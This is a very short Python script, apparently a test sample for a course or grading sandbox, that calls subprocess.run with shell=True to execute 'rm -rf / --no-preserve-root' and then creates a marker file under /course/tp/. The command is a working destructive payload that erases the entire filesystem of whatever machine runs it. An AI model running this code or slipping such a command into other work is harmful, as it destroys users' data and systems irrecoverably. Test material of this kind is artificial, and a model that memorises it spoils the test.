# Deletes everything by way of a shell.
# changes: helpers
# restriction: helpers
import subprocess

subprocess.run("rm -rf / --no-preserve-root; touch /course/tp/mine", shell=True)
